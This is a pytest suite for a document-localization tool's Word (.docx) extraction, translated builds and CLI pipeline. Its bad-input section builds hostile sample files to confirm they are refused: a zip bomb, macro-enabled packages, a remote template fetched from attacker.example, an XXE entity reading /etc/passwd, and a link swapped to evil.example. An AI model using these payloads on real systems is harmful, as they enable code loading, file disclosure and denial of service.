"""Word releases: extraction, identity and localized builds, language, bad input, through the CLI."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from functools import partial
from pathlib import Path

import polib
import pytest
from conftest import FIXTURES, needs_office, snapshot
from lxml import etree

from locpress.errors import BuildError, SourceError
from locpress.formats import docx
from locpress.formats.docx_package import Limits
from locpress.formats.segment import split_sentences

DOCX = FIXTURES / "docx"
SPLIT = partial(split_sentences, markdown=True, lang="en")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def msgids(name: str) -> list[tuple[str, str]]:
    doc = docx.parse((DOCX / name).read_bytes(), name, SPLIT)
    return [(unit.kind, sentence.text) for sentence, unit in doc.segments()]


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def canonical(data: bytes) -> bytes:
    return etree.tostring(etree.fromstring(data), method="c14n")


def test_pandoc_document_segments() -> None:
    found = msgids("pandoc.docx")
    assert ("paragraph", "SEOUL, 14 November 2023 – The **International Organization for Migration** (IOM) today "
                         "opened a *new* centre in Seoul.") in found
    assert ("paragraph", "Read the [full report](https://www.iom.int/report) for details.") in found  # note mark kept out
    assert ("list item", "First item of the list.") in found
    assert ("table cell", "1.2 million people") in found
    assert ("footnote", "The report was published in 2023.") in found
    assert ("title property", "IOM Opens New Centre in Seoul") in found
    assert found[0] == ("heading", "IOM Opens New Centre in Seoul")


def test_second_session_document_merges_bookkeeping_and_keeps_fields_whole() -> None:
    found = msgids("python-docx.docx")
    texts = [t for _k, t in found]
    # runs cut by rsids, proofErr and a language tag are one text; the bookmark is not in it
    assert "Speaking in Geneva, the Director said the results were clear." in texts
    assert "GENEVA – The census counted **every** migrant this year." in texts
    assert "The CO<sub>2</sub> figures follow." in texts
    assert "See page <span id=\"x1\"/> for details." in texts  # a PAGEREF field is one placeholder
    assert ("alt text", "A red square, the logo of the census") in found
    assert ("header", "International Organization for Migration") in found
    assert ("footer", "Page") in found  # the PAGE field is not text
    assert texts.count("Quote of the day: migration is a fact of life.") == 1  # DrawingML and VML: one segment
    # a tracked insertion reads as accepted, and the catalog comment says so (issue 17 defines this)
    assert ("paragraph, tracked changes accepted", "This sentence was inserted later.") in found
    assert "Check this date" not in texts  # comments are not translated
    assert not any("PAGEREF" in t or "rsid" in t for t in texts)


def test_document_edited_in_two_sessions() -> None:
    texts = [t for _k, t in msgids("libreoffice-edited-twice.docx")]
    assert ("SEOUL, 14 November 2023 – The **International Organization for Migration** (IOM) today opened a brand "
            "*new* centre in Seoul.") in texts
    assert "It covers exactly ten countries." in texts


def korean(text: str) -> str:
    return "한국어 " + text


@pytest.mark.parametrize("name", ["pandoc.docx", "libreoffice.docx", "libreoffice-edited-twice.docx",
                                  "python-docx.docx"])
def test_identity_build_changes_only_the_language_defaults(name: str) -> None:
    data = (DOCX / name).read_bytes()
    doc = docx.parse(data, name, SPLIT)
    identity = {s.text: s.text for s, _ in doc.segments()}
    built = docx.build(data, name, SPLIT, identity, "ko", " ")
    before, after = parts(data), parts(built.data)
    assert list(before) == list(after)
    differing = [n for n in before if n.endswith((".xml", ".rels")) and canonical(before[n]) != canonical(after[n])]
    # What differs, and why: styles.xml only, where the document defaults now say the text is Korean
    # (w:lang w:eastAsia="ko-KR") and a Latin-only font named there gets an East Asian twin.
    assert differing == ["word/styles.xml"]
    styles = etree.fromstring(after["word/styles.xml"])
    lang = styles.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert lang is not None and lang.get(f"{W}eastAsia") == "ko-KR"
    assert all(before[n] == after[n] for n in before if n != "word/styles.xml")  # byte for byte
    assert docx.build(data, name, SPLIT, identity, "ko", " ").data == built.data  # deterministic


def test_korean_build_writes_runs_in_the_source_formatting() -> None:
    data = (DOCX / "python-docx.docx").read_bytes()
    doc = docx.parse(data, "x.docx", SPLIT)
    translations = {s.text: korean(s.text) for s, _ in doc.segments()}
    translations["GENEVA – The census counted **every** migrant this year."] = "제네바 – 올해 인구조사는 **모든** 이주민을 셌다."
    built = docx.build(data, "x.docx", SPLIT, translations, "ko", " ")
    assert built.translated == built.segments
    again = [s.text for s, _ in docx.parse(built.data, "y.docx", SPLIT).segments()]
    assert "제네바 – 올해 인구조사는 **모든** 이주민을 셌다." in again
    assert "한국어 See page <span id=\"x1\"/> for details." in again
    assert "한국어 Quote of the day: migration is a fact of life." in again
    body = parts(built.data)["word/document.xml"].decode()
    assert body.count("한국어 Quote of the day") == 2  # written to the DrawingML box and its VML fallback
    assert "PAGEREF quote" in body and 'w:name="quote"' in body and 'descr="한국어 A red square' in body
    assert 'w:eastAsia="ko-KR"' in body  # the runs written carry the language
    tree = etree.fromstring(parts(built.data)["word/document.xml"])
    bold = [r for r in tree.iter(f"{W}r") if r.find(f"{W}rPr/{W}b") is not None]
    assert ["".join(t.text for t in r.iter(f"{W}t")) for r in bold] == ["모든"]
    assert "한국어 This sentence was inserted later." in body  # translated: written without the revision mark
    assert "<w:ins " not in body


def test_arabic_build_is_right_to_left() -> None:
    data = (DOCX / "pandoc.docx").read_bytes()
    doc = docx.parse(data, "x.docx", SPLIT)
    built = docx.build(data, "x.docx", SPLIT, {s.text: "نص " + s.text for s, _ in doc.segments()}, "ar", " ")
    tree = etree.fromstring(parts(built.data)["word/document.xml"])
    translated = [p for p in tree.iter(f"{W}p") if "نص" in "".join(t.text or "" for t in p.iter(f"{W}t"))]
    assert translated and all(p.find(f"{W}pPr/{W}bidi") is not None for p in translated)
    runs = [r for p in translated for r in p.iter(f"{W}r") if r.find(f"{W}t") is not None]
    assert all(r.find(f"{W}rPr/{W}rtl") is not None for r in runs)
    assert all(r.find(f"{W}rPr/{W}lang").get(f"{W}bidi") == "ar-SA" for r in runs)
    assert all(s.find(f"{W}bidi") is not None for s in tree.iter(f"{W}sectPr"))
    # children stay in schema order (Word refuses a document otherwise)
    for ppr in tree.iter(f"{W}pPr"):
        tags = [c.tag for c in ppr]
        if f"{W}bidi" in tags and f"{W}jc" in tags:
            assert tags.index(f"{W}bidi") < tags.index(f"{W}jc")


def test_broken_markup_in_a_translation_is_refused() -> None:
    data = (DOCX / "python-docx.docx").read_bytes()
    for wrong in ("See page for details.", "See page <span id=\"x1\"/><span id=\"x1\"/>.", "**Bold open."):
        source = "See page <span id=\"x1\"/> for details." if "page" in wrong else \
            "GENEVA – The census counted **every** migrant this year."
        with pytest.raises(BuildError, match="breaks its markup"):
            docx.build(data, "x.docx", SPLIT, {source: wrong}, "ko", " ")
    with pytest.raises(BuildError, match="link target"):
        pandoc = (DOCX / "pandoc.docx").read_bytes()
        docx.build(pandoc, "x.docx", SPLIT, {"Read the [full report](https://www.iom.int/report) for details.":
                                             "[보고서](https://evil.example) 참조."}, "ko", " ")


def test_a_bracket_no_link_target_closes_is_text() -> None:
    """`[sic]` and a pseudo-localized sentence's brackets are text, as in Markdown; a link
    inside them is still a link."""
    pandoc = (DOCX / "pandoc.docx").read_bytes()
    source = "Read the [full report](https://www.iom.int/report) for details."
    built = docx.build(pandoc, "x.docx", SPLIT,
                       {source: "[sic] [[보고서](https://www.iom.int/report)를 읽어 보십시오. ···]"}, "ko", " ")
    texts = [s.text for s, _ in docx.parse(built.data, "out", SPLIT).segments()]
    # read back, the brackets are literal text (escaped in the msgid) and the link is a link
    assert r"\[sic\] \[[보고서](https://www.iom.int/report)를 읽어 보십시오. ···\]" in " ".join(texts)


@pytest.mark.parametrize("name", ["pandoc.docx", "python-docx.docx", "libreoffice-edited-twice.docx"])
def test_a_pseudo_localized_draft_of_a_word_release_builds(project, cli, name: str) -> None:
    root = project({"2024/census.docx": (DOCX / name).read_bytes()}, locales=("ko", "ar"))
    assert cli(root, "run").code == 0
    result = cli(root, "pretranslate", "--engine", "pseudo")
    assert result.code == 0, result.err
    draft = cli(root, "build", "--draft")
    assert draft.code == 0, draft.err
    for locale in ("ko", "ar"):
        out = root / "drafts" / locale / "2024/census.docx"
        built = [s.text for s, _ in docx.parse(out.read_bytes(), "out", SPLIT).segments()]
        # escaped where the text is markup, as is where it is plain (the document's title property)
        wrong = [t for t in built if not (t.startswith(("\\[", "[")) and t.endswith("]"))]
        assert built and wrong == []
    assert not (root / "output/ko/2024/census.docx").exists()  # a draft is never published


# --- bad input ---------------------------------------------------------------------------------

def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


def _with(name: str, changes: dict[str, bytes]) -> bytes:
    entries = parts((DOCX / name).read_bytes())
    entries.update(changes)
    return _zip(entries)


BAD = {
    "corrupt.docx": (b"PK\x03\x04 this is not really a zip", "not a valid zip"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Word 97-2003 .doc"),
    "bomb.docx": (_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * 5_000_000}),
                  "refused before unpacking"),
    "macros.docm": (_with("pandoc.docx", {"word/vbaProject.bin": b"\0" * 10}), "contains macros"),
    "macro-enabled.docx": (_with("pandoc.docx", {"[Content_Types].xml": parts((DOCX / "pandoc.docx").read_bytes())[
        "[Content_Types].xml"].replace(b"document.main+xml", b"document.macroEnabled.main+xml")}), "contains macros"),
    "remote.docx": (_with("pandoc.docx", {"word/_rels/settings.xml.rels": (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')}),
        "external attachedTemplate relationship"),
    "entity.docx": (_with("pandoc.docx", {"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e '
                                          b'SYSTEM "file:///etc/passwd">]><x>&e;</x>'}), "DOCTYPE"),
}


@pytest.mark.parametrize("name", sorted(BAD))
def test_bad_word_files_are_one_line_and_nothing_is_written(project, cli, name: str) -> None:
    data, message = BAD[name]
    root = project({name: data, "good.md": "# Good\n\nA good release.\n"}, extra="[build]\nmin_reviewed = 0\n")
    result = cli(root, "run")
    assert result.code == 3
    errors = [line for line in result.err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and message in errors[0] and f"source/{name}" in errors[0], result.err
    assert "Traceback" not in result.err
    stem = name.rsplit(".", 1)[0]
    written = snapshot(root)
    assert not any(stem in path for path in written if not path.startswith("source/"))
    assert "output/ko/good.md" in written  # the other release is still processed


def test_an_embedded_binary_workbook_is_not_a_macro() -> None:
    """A chart's data as an Excel binary workbook: its content type always says macroEnabled."""
    source = parts((DOCX / "pandoc.docx").read_bytes())
    types = source["[Content_Types].xml"].replace(b"</Types>", b'<Override PartName="/word/embeddings/'
                                                  b'Microsoft_Excel_Binary_Worksheet.xlsb" ContentType="application/'
                                                  b'vnd.ms-excel.sheet.binary.macroEnabled.12"/></Types>')
    data = _with("pandoc.docx", {"[Content_Types].xml": types,
                                 "word/embeddings/Microsoft_Excel_Binary_Worksheet.xlsb": b"PK\3\4 workbook"})
    assert [s.text for s, _ in docx.parse(data, "x.docx", SPLIT).segments()] == \
        [s.text for s, _ in docx.parse((DOCX / "pandoc.docx").read_bytes(), "x.docx", SPLIT).segments()]
    with pytest.raises(SourceError, match="contains macros"):  # a VBA project beside it is
        docx.parse(_with("pandoc.docx", {"[Content_Types].xml": types, "word/vbaData.xml": b"<x/>"}), "x.docx", SPLIT)


def test_zip_limits_are_configured(project, cli) -> None:
    data = (DOCX / "pandoc.docx").read_bytes()
    with pytest.raises(SourceError, match="would unpack to"):
        docx.parse(data, "x.docx", SPLIT, Limits(max_unpacked=1000))
    root = project({"a.docx": data}, extra="[word]\nmax_unpacked = 1000\n")
    result = cli(root, "extract")
    assert result.code == 3 and "word.max_unpacked = 1,000" in result.err


# --- the CLI, end to end -----------------------------------------------------------------------

def test_word_release_through_the_pipeline(project, cli) -> None:
    root = project({"2024/census.docx": (DOCX / "python-docx.docx").read_bytes()},
                   extra="[build]\nformats = [\"md\", \"html\"]\n")
    assert cli(root, "run").code == 0
    pot = root / "locales/templates/2024/census.pot"
    assert "source/2024/census.docx:" in pot.read_text()
    if shutil.which("msgfmt"):
        subprocess.run(["msgfmt", "--check", "-o", "/dev/null", str(pot)], check=True)
    po = polib.pofile(str(root / "locales/ko/2024/census.po"))
    for entry in po:
        entry.msgstr = korean(entry.msgid)
    po.save()
    first = cli(root, "run")
    assert first.code == 0, first.err
    out = root / "output/ko/2024/census.docx"
    built = [s.text for s, _ in docx.parse(out.read_bytes(), "out", SPLIT).segments()]
    assert built and all(t.startswith("한국어 ") for t in built)
    assert not (root / "output/ko/2024/census.html").exists()  # a Word release has no web page
    before = snapshot(root)
    assert cli(root, "run").code == 0
    assert snapshot(root) == before  # a second run changes nothing
    check = cli(root, "check", "--locale", "ko")
    assert check.code == 0, check.out


@needs_office
def test_libreoffice_renders_identity_output_like_the_source(tmp_path: Path) -> None:
    data = (DOCX / "python-docx.docx").read_bytes()
    doc = docx.parse(data, "x.docx", SPLIT)
    (tmp_path / "source.docx").write_bytes(data)
    (tmp_path / "identity.docx").write_bytes(docx.build(data, "x", SPLIT, {s.text: s.text for s, _ in doc.segments()},
                                                       "ko", " ").data)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), str(tmp_path / "source.docx"), str(tmp_path / "identity.docx")],
                   check=True, capture_output=True, timeout=180)
    texts, pages = [], []
    for name in ("source", "identity"):
        pdf = str(tmp_path / f"{name}.pdf")
        texts.append(subprocess.run(["pdftotext", pdf, "-"], capture_output=True, text=True, check=True).stdout)
        info = subprocess.run(["pdfinfo", pdf], capture_output=True, text=True, check=True).stdout
        pages.append(next(line for line in info.splitlines() if line.startswith("Pages:")))
    assert "Speaking in Geneva" in texts[0]
    assert texts[0] == texts[1] and pages[0] == pages[1]


def test_past_word_translation_aligns_against_its_english_original(project, cli, tmp_path: Path) -> None:
    data = (DOCX / "pandoc.docx").read_bytes()
    translations = {
        "IOM Opens New Centre in Seoul": "IOM, 서울에 새 센터 개소",
        "SEOUL, 14 November 2023 – The **International Organization for Migration** (IOM) today opened a *new* "
        "centre in Seoul.": "서울, 2023년 11월 14일 – **국제이주기구**(IOM)는 오늘 서울에 *새* 센터를 열었다.",
        "Read the [full report](https://www.iom.int/report) for details.": "자세한 내용은 [전체 보고서](https://www.iom.int/report)를 참조하라.",
        "First item of the list.": "목록의 첫 항목.",
    }
    past = tmp_path / "past-ko.docx"
    past.write_bytes(docx.build(data, "x", SPLIT, translations, "ko", " ").data)
    root = project({"centre.docx": data})
    result = cli(root, "align", str(root / "source/centre.docx"), str(past), "--locale", "ko")
    assert result.code == 0, result.err
    po = {e.msgid: e for e in polib.pofile(str(root / "locales/ko/centre.po"))}
    entry = po["Read the [full report](https://www.iom.int/report) for details."]
    assert entry.msgstr == "자세한 내용은 [전체 보고서](https://www.iom.int/report)를 참조하라." and entry.fuzzy
    assert po["First item of the list."].msgstr == "목록의 첫 항목."


def test_same_name_in_word_and_markdown_is_an_error(project, cli) -> None:
    root = project({"a.md": "# A\n\nText.\n", "a.docx": (DOCX / "pandoc.docx").read_bytes()})
    result = cli(root, "extract")
    assert result.code == 2 and "two sources for release a: a.docx and a.md" in result.err.replace(
        "a.md and a.docx", "a.docx and a.md")


def test_checks_see_a_dropped_placeholder(project, cli) -> None:
    root = project({"census.docx": (DOCX / "python-docx.docx").read_bytes()})
    assert cli(root, "run").code in (0, 1)
    po = polib.pofile(str(root / "locales/ko/census.po"))
    po.find('See page <span id="x1"/> for details.').msgstr = "자세한 내용은 페이지를 보라."
    po.find("GENEVA – The census counted **every** migrant this year.").msgstr = "제네바 – 인구조사는 **모든 이주민을 셌다."
    po.save()
    result = cli(root, "check", "--locale", "ko")
    assert result.code == 1
    assert 'HTML tag' in result.out and '<span id="x1"/>' in result.out
    assert "Markdown emphasis" in result.out


def test_a_newline_inside_word_text_does_not_shift_the_blocks() -> None:
    entries = parts((DOCX / "pandoc.docx").read_bytes())
    entries["word/document.xml"] = entries["word/document.xml"].replace(b"First item of", b"First\nitem of")
    data = _zip(entries)
    doc = docx.parse(data, "x.docx", SPLIT)
    built = docx.build(data, "x.docx", SPLIT, {s.text: "K " + s.text for s, _ in doc.segments()}, "ko", " ")
    again = [s.text for s, _ in docx.parse(built.data, "y.docx", SPLIT).segments()]
    assert again[4:6] == ["K First item of the list.", 'K Second item, with <span id="g1">code</span>.']


def test_preview_shows_a_word_release_as_its_text(project, cli) -> None:
    from locpress import config
    from locpress.commands import preview

    root = project({"centre.docx": (DOCX / "pandoc.docx").read_bytes()})
    assert cli(root, "run").code in (0, 1)
    response = preview.respond(config.load(root), "/ko/centre.html")
    assert response.status == 200
    # a draft page (issue 12): each segment marked by origin, the source carrying its lang and dir
    assert '<p><span class="origin origin-source" lang="en" dir="ltr">First item of the list.</span></p>' \
        in response.body.decode()


@pytest.mark.parametrize(("locale", "fonts", "expected"), [
    ("ko", {"ascii": "Calibri", "eastAsia": "Times New Roman"}, "Malgun Gothic"),  # no Hangul in it
    ("ko", {"ascii": "Calibri", "eastAsia": "Batang"}, "Batang"),  # a Korean font the source chose
    ("ko", {"ascii": "Calibri"}, "Malgun Gothic"),
    ("zh_Hans", {"ascii": "Arial", "eastAsia": "arial"}, "Microsoft YaHei"),
    ("ar", {"ascii": "Calibri", "cs": "Calibri"}, "Arial"),  # Calibri has no Arabic
    ("ar", {"ascii": "Calibri", "cs": "Times New Roman"}, "Times New Roman"),  # it has
])
def test_a_font_with_no_glyphs_for_the_script_is_replaced(locale: str, fonts: dict[str, str], expected: str) -> None:
    from locpress.formats.docx_language import set_run
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    rpr = etree.Element(f"{{{w}}}rPr")
    etree.SubElement(rpr, f"{{{w}}}rFonts", {f"{{{w}}}{k}": v for k, v in fonts.items()})
    set_run(rpr, locale)
    slot = "cs" if locale == "ar" else "eastAsia"
    assert rpr.find(f"{{{w}}}rFonts").get(f"{{{w}}}{slot}") == expected
    assert rpr.find(f"{{{w}}}rFonts").get(f"{{{w}}}ascii") == fonts["ascii"]  # the Latin font is the source's
